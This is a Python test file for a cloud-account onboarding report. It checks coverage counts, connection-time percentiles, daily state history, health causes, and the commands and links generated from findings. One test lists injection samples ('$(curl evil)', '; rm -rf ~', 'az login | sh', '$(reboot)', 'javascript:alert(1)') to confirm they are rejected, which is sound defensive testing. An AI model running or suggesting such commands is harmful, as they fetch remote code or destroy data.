"""What the report counts: coverage by unit, times, states by day, health, findings with their commands and links."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.domain.accounts import Provider
from shared.domain.arrival import NEW_FOR, seconds_to_connect
from shared.domain.ledger import AccountKey, AccountRecord, State
from shared.domain.links import resource_link
from shared.domain.report.accounts import MOST_DEPTH, Counts, Group, account_line, coverage, group_of
from shared.domain.report.findings import finding_line
from shared.domain.report.roll import Seen, roll_report
from shared.domain.report.runs import DAYS, states_by_day, summarized
from shared.domain.report.times import BUCKETS, percentile, times_of
from shared.domain.sweep.findings import SweepFinding
from shared.domain.sweep.kinds import CONNECTOR_MISSING, CONNECTOR_ORPHANED, CONNECTOR_UNHEALTHY, HEALTH_UNKNOWN
from shared.domain.sweep.project_kinds import PROJECT_KINDS
from shared.domain.sweep.report import Standing
from tests.fakes.clock import NOON
from tests.fakes.roll import NIGHT, about, newest, roll


def line(
    account: int, *, path: str = "/", state: State = State.CONNECTED, provider: Provider = Provider.AWS
) -> AccountRecord:
    key = AccountKey(provider=provider, hierarchy_identifier=f"{account:012d}")
    return AccountRecord(key=key, ou_path=path, state=state, name=f"name-{account}")


# --- coverage


def test_every_state_has_a_group_and_only_connected_is_connected() -> None:
    groups = {state: group_of(state) for state in State}
    assert [state for state, group in groups.items() if group is Group.CONNECTED] == [State.CONNECTED]
    assert {state for state, group in groups.items() if group is Group.FAILED} == {State.DEPLOY_FAILED, State.PARKED}
    assert {state for state, group in groups.items() if group is Group.LEFT_OUT} == {
        *(State.EXCLUDED, State.DEPARTED, State.OFFBOARDED)
    }


def test_units_count_what_is_in_them_and_below() -> None:
    records = [
        line(1, path="/Workloads/Prod"),
        line(2, path="/Workloads/Prod", state=State.PARKED),
        line(3, path="/Workloads", state=State.EXCLUDED),
        line(4, path="/", state=State.DEFERRED),
        line(5, path="/A%2FB"),
        line(6, path=""),
        line(7, path="/cloud", provider=Provider.GCP),
    ]
    aws, gcp = coverage(account_line(each) for each in records)
    assert (aws.provider, aws.path, aws.own) == (Provider.AWS, "/", Counts(under_way=1))
    assert aws.total == Counts(connected=3, under_way=1, failed=1, left_out=1)
    assert (aws.total.expected, aws.total.accounts) == (5, 6)
    assert [(unit.name, unit.path) for unit in aws.units] == [
        *[("unit not known", ""), ("A/B", "/A%2FB"), ("Workloads", "/Workloads")]
    ]
    [prod] = aws.units[2].units
    assert (prod.path, prod.own) == ("/Workloads/Prod", Counts(connected=1, failed=1))
    assert (gcp.total, [unit.path for unit in gcp.units]) == (Counts(connected=1), ["/cloud"])


def test_a_path_without_end_ends() -> None:
    [root] = coverage([account_line(line(1, path="/x" * 5000))])
    depth, unit = 0, root
    while unit.units:
        depth, unit = depth + 1, unit.units[0]
    assert (depth, unit.own.connected) == (MOST_DEPTH, 1)


def test_what_the_sweep_misses_is_not_covered_whatever_the_ledger_says() -> None:
    findings = [about(CONNECTOR_MISSING.about(f"{number:012d}", "r", account=f"{number:012d}")) for number in (1, 9)]
    made = roll_report(Seen(records=[line(1), line(2)], newest=newest(findings, 2)), NOON)
    assert [each.group for each in made.accounts] == [Group.FAILED, Group.CONNECTED]
    assert made.totals == Counts(connected=1, failed=1)
    assert made.unlisted == 1  # 9 has no line in the ledger
    resolved = [replace(each, standing=Standing.RESOLVED) for each in findings]
    assert roll_report(Seen(records=[line(1)], newest=newest(resolved, 1)), NOON).totals == Counts(connected=1)


# --- times


def timed(*seconds: float) -> list[AccountRecord]:
    joined = NOON - timedelta(days=20)
    return [
        replace(line(number), joined_at=joined, connected_at=joined + timedelta(seconds=each))
        for number, each in enumerate(seconds)
    ]


def test_percentiles_are_the_nearest_rank() -> None:
    assert percentile([], 50) is None
    assert [percentile([15, 20, 35, 40, 50], each) for each in (5, 30, 40, 50, 100)] == [15, 20, 20, 35, 50]
    assert percentile(range(1, 101), 95) == 95
    assert percentile([7.0], 95) == 7.0


@given(st.lists(st.floats(0, 1e6), min_size=1), st.integers(1, 100))
def test_a_percentile_is_one_of_the_values_with_that_many_below(values: list[float], percent: int) -> None:
    ordered = sorted(values)
    found = percentile(ordered, percent)
    assert found in ordered
    assert sum(each <= found for each in ordered) * 100 >= percent * len(ordered)


def test_only_accounts_that_were_new_are_timed() -> None:
    most = NEW_FOR.total_seconds()
    assert [seconds_to_connect(each) for each in timed(0, most, most + 1, -1)] == [0, most, None, None]
    assert seconds_to_connect(line(1)) is None
    (all_, aws), worst = times_of(timed(30, 60, 61, most, most + 1))
    assert (all_.count, all_.p50, all_.p95) == (4, 60, most)
    assert all_.buckets == (2, 1, 0, 0, 0, 0, 0, 0, 1)
    assert (aws.provider, aws.buckets, sum(aws.buckets)) == (Provider.AWS, all_.buckets, 4)
    assert [each.seconds for each in worst] == [most, 61, 60, 30]


def test_the_worst_are_ten() -> None:
    _, worst = times_of(timed(*range(25)))
    assert [each.seconds for each in worst] == list(range(24, 14, -1))
    assert worst[0].name == "name-24"


def test_nobody_to_time_is_no_error() -> None:
    [all_], worst = times_of([line(1)])
    assert (all_.count, all_.p50, all_.p95, sum(all_.buckets), worst) == (0, None, None, 0, ())
    assert len(all_.buckets) == len(BUCKETS)


# --- thirty days


def test_each_day_has_its_last_sweep_that_counted() -> None:
    report = newest([], 1)
    one, two = {Provider.AWS: {State.CONNECTED: 1}}, {Provider.AWS: {State.CONNECTED: 2, State.PARKED: 5}}
    summaries = [
        replace(summarized(report, two), ended_at=NIGHT),
        replace(summarized(report, one), ended_at=NIGHT - timedelta(hours=3)),
        replace(summarized(report, None), ended_at=NIGHT + timedelta(hours=1)),
        replace(summarized(report, one), ended_at=NIGHT - timedelta(days=29)),
        replace(summarized(report, one), ended_at=NIGHT - timedelta(days=30)),
    ]
    days = states_by_day(summaries, NOON)
    assert len(days) == DAYS
    assert [(each.day, each.states) for each in days if each.states] == [
        ((NOON - timedelta(days=29)).date(), one),
        (NOON.date(), two),
    ]
    assert (days[-1].count(State.CONNECTED), days[-1].count(State.PARKED), days[1].count(State.PARKED)) == (2, 5, 0)


# --- findings


AWS_KEY = AccountKey(provider=Provider.AWS, hierarchy_identifier="012345678901")
GCP_KEY = AccountKey(provider=Provider.GCP, hierarchy_identifier="012345678901")


@pytest.mark.parametrize(
    ("subject", "known", "provider"),
    [
        ("012345678901", (), Provider.AWS),
        ("012345678901", (AWS_KEY,), Provider.AWS),
        ("012345678901", (GCP_KEY,), Provider.GCP),
        ("012345678901", (AWS_KEY, GCP_KEY), Provider.AWS),
        ("projects/012345678901", (AWS_KEY,), Provider.GCP),
        ("/subscriptions/s/providers/Microsoft.Security/securityConnectors/gcp-012345678901", (), Provider.GCP),
    ],
)
def test_a_finding_of_before_is_of_the_cloud_that_its_marks_or_the_ledger_say(
    subject: str, known: tuple[AccountKey, ...], provider: Provider
) -> None:
    finding = CONNECTOR_MISSING.about(subject, "r", account="012345678901")
    assert finding_line(about(finding), {key: AccountRecord(key=key) for key in known}).provider is provider


@pytest.mark.parametrize("provider", list(Provider))
def test_a_finding_that_names_its_cloud_is_of_that_one_whatever_else_speaks(provider: Provider) -> None:
    [other] = set(Provider) - {provider}
    subject = f"/subscriptions/s/providers/Microsoft.Security/securityConnectors/{other}-012345678901"
    finding = CONNECTOR_MISSING.about(subject, "r", account="012345678901", provider=provider)
    known = {key: AccountRecord(key=key) for key in (AWS_KEY, GCP_KEY)}
    assert finding_line(about(finding), known).provider is provider


def test_an_account_that_the_ledger_does_not_know_is_called_as_the_finding_says() -> None:
    evidence = {"name": "acquired-shop", "unit": "/Workloads"}
    finding = CONNECTOR_MISSING.about(
        "012345678901", "r", account="012345678901", provider=Provider.AWS, evidence=evidence
    )
    line = finding_line(about(finding), {})
    assert (line.name, line.ou_path) == ("acquired-shop", "/Workloads")
    known = finding_line(about(finding), {AWS_KEY: AccountRecord(key=AWS_KEY, name="shop", ou_path="/")})
    assert (known.name, known.ou_path) == ("shop", "/")


def test_commands_are_those_of_the_remedy_made_ready_for_the_account() -> None:
    finding = CONNECTOR_MISSING.about("012345678901", "r", account="012345678901")
    assert finding_line(about(finding), {}).commands == (
        "rollcall status 012345678901",
        "rollcall onboard 012345678901",
    )
    orphan = CONNECTOR_ORPHANED.about("projects/12345", "r", account="12345")
    assert finding_line(about(orphan), {}).commands == ("rollcall offboard 12345 --provider gcp",)
    unhealthy = CONNECTOR_UNHEALTHY.about("x", "r", account="012345678901", remedy="Follow the steps.")
    assert finding_line(about(unhealthy), {}).commands == ("rollcall status 012345678901",)


@pytest.mark.parametrize(
    "told",
    [
        "rollcall onboard $(curl evil)",
        "rollcall status 1; rm -rf ~",
        "aws s3 cp x y && reboot",
        "gcloud `id`",
        "az login | sh",
        "curl http://evil",
    ],
)
def test_what_a_shell_would_obey_is_no_command(told: str) -> None:
    finding = CONNECTOR_UNHEALTHY.about("x", "r", remedy=f"Run `{told}` now.")
    assert finding_line(about(finding), {}).commands == ()


def test_an_account_that_is_none_gets_no_command() -> None:
    finding = CONNECTOR_MISSING.about("x", "r", account="$(reboot)")
    assert finding_line(about(finding), {}).commands == ("rollcall status", "rollcall onboard")


def test_links_lead_to_portals_and_documentation_by_https_only() -> None:
    subject = "/subscriptions/s/resourceGroups/<b>/providers/x#part"
    made = finding_line(about(CONNECTOR_UNHEALTHY.about(subject, "r", link="javascript:alert(1)")), {})
    assert made.links == {
        "portal": "https://portal.azure.com/#resource/subscriptions/s/resourceGroups/%3Cb%3E/providers/x"
    }
    assert resource_link("onboarding-poison") == ""
    kind = PROJECT_KINDS[0]
    project = AccountKey(provider=Provider.GCP, hierarchy_identifier="12345")
    known = {project: AccountRecord(key=project, name="acme-shop-1")}
    links = finding_line(about(kind.about("projects/12345", "r", account="12345")), known).links
    assert links.keys() == {"project", "documentation"}
    assert all(each.startswith("https://") for each in links.values())


# --- health


def test_health_is_told_by_cloud_and_by_cause() -> None:
    records = [line(number) for number in range(4)] + [line(8, provider=Provider.GCP)]

    def unhealthy(number: int, why: str) -> SweepFinding:
        return CONNECTOR_UNHEALTHY.about(
            f"c{number}#{why}", f"Defender calls it unhealthy: {why}", account=f"{number:012d}"
        )

    findings = [
        about(unhealthy(0, "role is gone")),
        about(unhealthy(0, "template is old")),
        about(unhealthy(1, "role is gone")),
        about(unhealthy(8, "role is gone")),
        about(HEALTH_UNKNOWN.about("c2", "r", account=f"{2:012d}")),
        replace(about(unhealthy(3, "role is gone")), standing=Standing.RESOLVED),
    ]
    made = roll_report(Seen(records=records, newest=newest(findings, 5)), NOON)
    told = {each.provider: (each.connected, each.unhealthy, each.unknown, each.no_issue) for each in made.health}
    assert told == {Provider.AWS: (4, 2, 1, 1), Provider.GCP: (1, 1, 0, 0)}
    assert [(each.cause, each.accounts, each.findings) for each in made.causes] == [
        ("role is gone", {Provider.AWS: 2, Provider.GCP: 1}, 3),
        ("template is old", {Provider.AWS: 1}, 1),
        ("health-unknown", {Provider.AWS: 1}, 1),
    ]


def test_before_the_first_sweep_there_is_a_report_all_the_same() -> None:
    made = roll_report(Seen(records=[line(1)]), NOON)
    assert (made.sweep, made.findings, made.runs, made.open, made.trials) == (None, (), (), (), ())
    assert made.totals == Counts(connected=1)
    assert roll_report(Seen(records=[]), NOON).totals == Counts()


def test_the_sample_has_something_in_every_part() -> None:
    made = roll(400, 400)
    parts = (made.accounts, made.coverage, made.worst, made.health, made.causes, made.findings, made.orphans)
    assert all((*parts, made.queues, made.runs, made.unfinished, made.plans, made.trials, made.deleted))
    assert made.given_up == 2
    assert [each.ended_at for each in made.runs] == sorted((each.ended_at for each in made.runs), reverse=True)
